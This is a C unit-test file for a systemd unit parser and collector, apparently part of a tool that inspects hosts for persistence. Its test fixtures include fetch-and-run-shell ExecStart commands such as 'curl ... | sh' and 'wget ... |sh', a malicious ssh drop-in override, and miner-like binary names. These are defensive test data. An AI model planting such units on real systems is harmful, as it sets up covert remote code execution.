/* test_systemd.c - unit tests of the systemd unit parser and collector */
#include <errno.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "collect/facts.h"
#include "collect/systemd.h"
#include "t.h"

static void parse(mt_unit *u, const char *path, const char *text, int dropin)
{
	REQUIRE_INT_EQ(mt_unit_parse(u, path, text, strlen(text), dropin), MT_OK);
}

static const mt_unit_exec *nth_exec(const mt_unit *u, const char *key, size_t n)
{
	for (size_t i = 0; i < u->nexec; i++)
		if (strcmp(u->exec[i].key, key) == 0 && n-- == 0)
			return &u->exec[i];
	return NULL;
}

static void test_syntax(void)
{
	mt_unit u;
	memset(&u, 0, sizeof(u));
	TEST_START("continuations, comments, sections");
	parse(&u, "/etc/systemd/system/a.service",
	      "# comment\n"
	      "; another\n"
	      "[Unit]\n"
	      "Description=x\n"
	      "ExecStart=/bin/not-in-service-section\n"
	      "[Service]\r\n"
	      "Type=simple\n"
	      "  ExecStart = /bin/sh -c \\\n"
	      "   'curl -s http://x/y \\\n"
	      "# a comment inside is skipped\n"
	      "; so is this one\n"
	      "   | sh'\n"
	      "this line is not a setting\n"
	      "Restart=on-failure\n"
	      "Restart=always\n"
	      "User=nobody\n",
	      0);
	REQUIRE_INT_EQ(u.nexec, 1);
	ASSERT_STR_EQ(u.exec[0].key, "ExecStart");
	ASSERT_STR_EQ(u.exec[0].command, "/bin/sh -c     'curl -s http://x/y     | sh'");
	ASSERT_STR_CONTAINS(u.exec[0].line, "ExecStart = /bin/sh -c");
	ASSERT_INT_EQ(u.exec[0].lineno, 8);
	ASSERT_INT_EQ(u.exec[0].dropin, 0);
	ASSERT_STR_EQ(u.exec[0].path, "/etc/systemd/system/a.service");
	ASSERT_STR_EQ(u.restart, "always");
	ASSERT_STR_EQ(u.exec_user, "nobody");
	ASSERT_INT_EQ(u.bad, 1);
	TEST_DONE();
	mt_unit_clear(&u);
	ASSERT_NULL(u.name);

	TEST_START("exec prefixes are removed");
	parse(&u, "p",
	      "[Service]\n"
	      "ExecStartPre=-/usr/bin/true\n"
	      "ExecStart=@/tmp/.x/kdevtmpfsi kworker\n"
	      "ExecStartPost=!!/usr/bin/a b\n"
	      "ExecReload=+:-/usr/bin/r\n"
	      "ExecStop=|/usr/bin/s\n"
	      "ExecStopPost=-\n",
	      0);
	REQUIRE_INT_EQ(u.nexec, 5);
	ASSERT_STR_EQ(nth_exec(&u, "ExecStartPre", 0)->command, "/usr/bin/true");
	ASSERT_STR_EQ(nth_exec(&u, "ExecStart", 0)->command, "/tmp/.x/kdevtmpfsi kworker");
	ASSERT_STR_EQ(nth_exec(&u, "ExecStartPost", 0)->command, "/usr/bin/a b");
	ASSERT_STR_EQ(nth_exec(&u, "ExecReload", 0)->command, "/usr/bin/r");
	ASSERT_STR_EQ(nth_exec(&u, "ExecStop", 0)->command, "/usr/bin/s");
	ASSERT_STR_EQ(nth_exec(&u, "ExecStart", 0)->line, "ExecStart=@/tmp/.x/kdevtmpfsi kworker");
	ASSERT_INT_EQ(u.bad, 1); /* a prefix without a command */
	TEST_DONE();
	mt_unit_clear(&u);

	TEST_START("socket units: only the Exec settings sockets have");
	parse(&u, "s.socket",
	      "[Socket]\nListenStream=1\nExecStartPre=/bin/pre\nExecStart=/bin/no\n", 0);
	REQUIRE_INT_EQ(u.nexec, 1);
	ASSERT_STR_EQ(u.exec[0].command, "/bin/pre");
	TEST_DONE();
	mt_unit_clear(&u);

	TEST_START("a trailing backslash at the end of the file");
	parse(&u, "e", "[Service]\nExecStart=/bin/a \\", 0);
	REQUIRE_INT_EQ(u.nexec, 1);
	ASSERT_STR_EQ(u.exec[0].command, "/bin/a");
	TEST_DONE();
	mt_unit_clear(&u);

	TEST_START("an over-long line is cut, not dropped");
	{
		size_t n = MT_MAX_LINE + 5000;
		char *big = malloc(n + 64);
		REQUIRE_NOT_NULL(big);
		int o = snprintf(big, 64, "[Service]\nExecStart=/tmp/m ");
		memset(big + o, 'a', n);
		memcpy(big + o + n, "\n", 2);
		ASSERT_INT_EQ(mt_unit_parse(&u, "b", big, strlen(big), 0), MT_OK);
		free(big);
		REQUIRE_INT_EQ(u.nexec, 1);
		ASSERT_INT_EQ(u.cut, 1);
		ASSERT_TRUE(strncmp(u.exec[0].command, "/tmp/m aaa", 10) == 0);
		ASSERT_TRUE(strlen(u.exec[0].line) <= MT_MAX_LINE);
	}
	TEST_DONE();
	mt_unit_clear(&u);
}

static void test_merge(void)
{
	mt_unit u;
	memset(&u, 0, sizeof(u));
	TEST_START("drop-in: an empty ExecStart= resets the list");
	parse(&u, "/lib/systemd/system/ssh.service",
	      "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D\n"
	      "Restart=on-failure\n",
	      0);
	parse(&u, "/etc/systemd/system/ssh.service.d/override.conf",
	      "[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl -fsSL http://a.b/x | sh'\n"
	      "Restart=always\n",
	      1);
	REQUIRE_INT_EQ(u.nexec, 2);
	const mt_unit_exec *pre = nth_exec(&u, "ExecStartPre", 0);
	const mt_unit_exec *x = nth_exec(&u, "ExecStart", 0);
	REQUIRE_NOT_NULL(pre);
	REQUIRE_NOT_NULL(x);
	ASSERT_NULL(nth_exec(&u, "ExecStart", 1));
	ASSERT_STR_EQ(pre->path, "/lib/systemd/system/ssh.service");
	ASSERT_INT_EQ(pre->dropin, 0);
	ASSERT_STR_EQ(x->command, "/bin/sh -c 'curl -fsSL http://a.b/x | sh'");
	ASSERT_STR_EQ(x->path, "/etc/systemd/system/ssh.service.d/override.conf");
	ASSERT_INT_EQ(x->dropin, 1);
	ASSERT_INT_EQ(x->lineno, 3);
	ASSERT_STR_EQ(u.restart, "always");
	TEST_DONE();

	TEST_START("drop-in without reset adds to the list");
	parse(&u, "d2.conf", "[Service]\nExecStart=/bin/second\nRestart=\n", 1);
	ASSERT_NOT_NULL(nth_exec(&u, "ExecStart", 1));
	ASSERT_STR_EQ(nth_exec(&u, "ExecStart", 1)->command, "/bin/second");
	ASSERT_NULL(u.restart); /* an empty value unsets */
	TEST_DONE();
	mt_unit_clear(&u);

	TEST_START("timer schedule and Unit=");
	parse(&u, "t.timer",
	      "[Timer]\nOnCalendar=daily\nOnBootSec=5min\nOnCalendar=*:0/10\nUnit=x.service\n", 0);
	ASSERT_STR_EQ(u.schedule, "OnCalendar=daily; OnBootSec=5min; OnCalendar=*:0/10");
	ASSERT_STR_EQ(u.trigger, "x.service");
	parse(&u, "t.conf", "[Timer]\nOnCalendar=\nOnUnitActiveSec=1h\n", 1);
	ASSERT_STR_EQ(u.schedule, "OnBootSec=5min; OnUnitActiveSec=1h");
	ASSERT_INT_EQ(u.nexec, 0);
	TEST_DONE();
	mt_unit_clear(&u);
}

static void test_link_abs(void)
{
	char out[256];
	TEST_START("symlink targets made absolute");
	ASSERT_INT_EQ(mt_link_target_abs("/etc/rc.local", "rc.d/rc.local", out, sizeof(out)), 0);
	ASSERT_STR_EQ(out, "/etc/rc.d/rc.local");
	ASSERT_INT_EQ(mt_link_target_abs("/etc/rc2.d/S01x", "../init.d/x", out, sizeof(out)), 0);
	ASSERT_STR_EQ(out, "/etc/init.d/x");
	ASSERT_INT_EQ(mt_link_target_abs("/a/b", "../../../../x/./y", out, sizeof(out)), 0);
	ASSERT_STR_EQ(out, "/x/y");
	ASSERT_INT_EQ(mt_link_target_abs("/a/b", "/lib//systemd/x", out, sizeof(out)), 0);
	ASSERT_STR_EQ(out, "/lib/systemd/x");
	ASSERT_INT_EQ(mt_link_target_abs("/a/b", "/very/long/path", out, 8), -1);
	TEST_DONE();
}

/* ---- the collector on a planted tree ---- */

static char root[256];

static void mk(const char *rel, const char *text)
{
	char p[1024];
	snprintf(p, sizeof(p), "%s/%s", root, rel);
	for (char *s = p + strlen(root) + 1; (s = strchr(s, '/')) != NULL; s++) {
		*s = '\0';
		mkdir(p, 0755);
		*s = '/';
	}
	if (text) {
		FILE *f = fopen(p, "w");
		REQUIRE_NOT_NULL(f);
		fputs(text, f);
		fclose(f);
	} else {
		mkdir(p, 0755);
	}
}

static void ln(const char *target, const char *rel)
{
	char p[1024];
	snprintf(p, sizeof(p), "%s/%s", root, rel);
	mk(rel, NULL);
	rmdir(p);
	REQUIRE_INT_EQ(symlink(target, p), 0);
}

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)ftw;
	return flag == FTW_DP ? rmdir(p) : unlink(p);
}

static void test_collect(void)
{
	snprintf(root, sizeof(root), "/tmp/mt-test-systemd-XXXXXX");
	REQUIRE_NOT_NULL(mkdtemp(root));
	/* merged /usr: /lib is a link to usr/lib and must be read once */
	mk("usr/lib/systemd/system/ssh.service",
	   "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n");
	ln("usr/lib", "lib");
	mk("usr/lib/systemd/system/masked.service", "[Service]\nExecStart=/tmp/xmrig\n");
	ln("/dev/null", "etc/systemd/system/masked.service");
	mk("usr/lib/systemd/system/masked.service.d/x.conf", "[Service]\nExecStart=/tmp/y\n");
	mk("etc/systemd/system/bot.service",
	   "[Service]\nExecStart=/etc/kinsing\nRestart=always\n");
	ln("/etc/systemd/system/bot.service", "etc/systemd/system/multi-user.target.wants/bot.service");
	ln("/lib/systemd/system/ssh.service", "etc/systemd/system/multi-user.target.wants/ssh.service");
	/* drop-ins from two directories: /etc wins for the same file name */
	mk("etc/systemd/system/ssh.service.d/10-a.conf",
	   "[Service]\nExecStart=\nExecStart=/bin/sh -c 'wget -qO- http://h/x|sh'\n");
	mk("usr/lib/systemd/system/ssh.service.d/10-a.conf", "[Service]\nExecStartPre=/lost\n");
	mk("usr/lib/systemd/system/ssh.service.d/05-b.conf", "[Service]\nExecStartPre=/kept\n");
	mk("etc/systemd/system/upd.timer", "[Timer]\nOnCalendar=*:0/5\n");
	mk("etc/systemd/system/upd.service", "[Service]\nExecStart=/usr/bin/.x/minerd\n");
	ln("/etc/systemd/system/upd.timer", "etc/systemd/system/timers.target.wants/upd.timer");
	mk("etc/systemd/system/other.timer", "[Timer]\nOnBootSec=1min\nUnit=bot.service\n");
	/* a wants link to a unit file outside the search path */
	mk("opt/evil/evil.service", "[Service]\nExecStart=/opt/evil/run\n");
	ln("/opt/evil/evil.service", "etc/systemd/system/multi-user.target.wants/evil.service");
	/* an instance enabled through its template */
	mk("usr/lib/systemd/system/getty@.service", "[Service]\nExecStart=/sbin/agetty %I\n");
	ln("/lib/systemd/system/getty@.service", "etc/systemd/system/getty.target.wants/getty@tty1.service");
	/* user units: global and one account's own */
	mk("usr/lib/systemd/user/dbus.service", "[Service]\nExecStart=/usr/bin/dbus-daemon\n");
	mk("home/alice/.config/systemd/user/x.service", "[Service]\nExecStart=/home/alice/.x\n");
	mk("home/alice/.config/systemd/user/dbus.service.d/o.conf",
	   "[Service]\nExecStartPre=/home/alice/pre\n");
	mk("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
	                 "alice:x:1000:1000::/home/alice:/bin/bash\n"
	                 "alias:x:1001:1001::/home/alice:/bin/bash\n");

	mt_host *h;
	mt_report *rep;
	mt_users *users;
	mt_units *us;
	REQUIRE_INT_EQ(mt_host_open(root, 0, &h), MT_OK);
	REQUIRE_INT_EQ(mt_report_new(&rep), MT_OK);
	REQUIRE_INT_EQ(mt_users_load(h, rep, &users), MT_OK);
	REQUIRE_INT_EQ(mt_units_collect(h, rep, users, &us), MT_OK);

	TEST_START("collect: enabled unit and merged /usr read once");
	const mt_unit *u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "bot.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->enabled, 1);
	ASSERT_STR_EQ(u->enabled_by, "/etc/systemd/system/multi-user.target.wants/bot.service");
	ASSERT_STR_EQ(u->restart, "always");
	ASSERT_STR_EQ(u->triggered_by, "other.timer");
	ASSERT_STR_EQ(u->trigger_schedule, "OnBootSec=1min");
	ASSERT_INT_EQ(u->trigger_enabled, 0);
	size_t nssh = 0;
	for (size_t i = 0; i < us->n; i++)
		nssh += strcmp(us->v[i].name, "ssh.service") == 0;
	ASSERT_SIZE_EQ(nssh, 1);
	TEST_DONE();

	TEST_START("collect: drop-ins merged by name and priority");
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "ssh.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_STR_EQ(u->path, "/lib/systemd/system/ssh.service");
	ASSERT_INT_EQ(u->enabled, 1);
	REQUIRE_INT_EQ(u->ndropins, 2);
	ASSERT_STR_EQ(u->dropins[0], "/lib/systemd/system/ssh.service.d/05-b.conf");
	ASSERT_STR_EQ(u->dropins[1], "/etc/systemd/system/ssh.service.d/10-a.conf");
	REQUIRE_INT_EQ(u->nexec, 2);
	ASSERT_STR_EQ(u->exec[0].command, "/kept");
	ASSERT_STR_CONTAINS(u->exec[1].command, "wget");
	ASSERT_INT_EQ(u->exec[1].dropin, 1);
	ASSERT_STR_EQ(u->exec[1].path, "/etc/systemd/system/ssh.service.d/10-a.conf");
	TEST_DONE();

	TEST_START("collect: masked unit");
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "masked.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->masked, 1);
	ASSERT_STR_EQ(u->path, "/lib/systemd/system/masked.service");
	ASSERT_INT_EQ(u->ndropins, 0); /* not applied to a masked unit */
	REQUIRE_INT_EQ(u->nexec, 1);
	ASSERT_STR_EQ(u->exec[0].command, "/tmp/xmrig");
	TEST_DONE();

	TEST_START("collect: timer fires the same-name service");
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "upd.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_STR_EQ(u->triggered_by, "upd.timer");
	ASSERT_STR_EQ(u->trigger_schedule, "OnCalendar=*:0/5");
	ASSERT_INT_EQ(u->trigger_enabled, 1);
	ASSERT_INT_EQ(u->enabled, 0);
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "upd.timer");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->enabled, 1);
	TEST_DONE();

	TEST_START("collect: linked unit outside the search path, template instance");
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "evil.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_STR_EQ(u->real_path, "/opt/evil/evil.service");
	ASSERT_INT_EQ(u->enabled, 1);
	REQUIRE_INT_EQ(u->nexec, 1);
	ASSERT_STR_EQ(u->exec[0].command, "/opt/evil/run");
	u = mt_units_find(us, MT_UNIT_SYSTEM, NULL, "getty@.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->enabled, 1);
	TEST_DONE();

	TEST_START("collect: user units, global and per account");
	u = mt_units_find(us, MT_UNIT_USER_GLOBAL, NULL, "dbus.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->nexec, 1);
	u = mt_units_find(us, MT_UNIT_USER_HOME, "alice", "x.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_STR_EQ(u->path, "/home/alice/.config/systemd/user/x.service");
	u = mt_units_find(us, MT_UNIT_USER_HOME, "alice", "dbus.service");
	REQUIRE_NOT_NULL(u);
	ASSERT_INT_EQ(u->nexec, 2); /* the global unit plus alice's drop-in */
	ASSERT_NULL(mt_units_find(us, MT_UNIT_USER_HOME, "alias", "x.service")); /* same home */
	size_t nhome = 0;
	for (size_t i = 0; i < us->n; i++)
		nhome += us->v[i].scope == MT_UNIT_USER_HOME;
	ASSERT_SIZE_EQ(nhome, 2);
	TEST_DONE();

	TEST_START("readlink inside the root");
	char t[256];
	ASSERT_INT_EQ(mt_host_readlink_in(h, "/etc/systemd/system/masked.service", t, sizeof(t)),
	              MT_OK);
	ASSERT_STR_EQ(t, "/dev/null");
	ASSERT_INT_EQ(mt_host_readlink_in(h, "/etc/systemd/system/bot.service", t, sizeof(t)),
	              MT_ERR_INVAL);
	ASSERT_INT_EQ(mt_host_readlink_in(h, "/nope/x", t, sizeof(t)), MT_ERR_NOENT);
	TEST_DONE();

	mt_units_free(us);
	mt_users_free(users);
	mt_report_free(rep);
	mt_host_close(h);
	if (nftw(root, rm_one, 16, FTW_DEPTH | FTW_PHYS) != 0)
		fprintf(stderr, "could not remove %s\n", root);
}

int main(void)
{
	test_syntax();
	test_merge();
	test_link_abs();
	test_collect();
	return T_DONE();
}
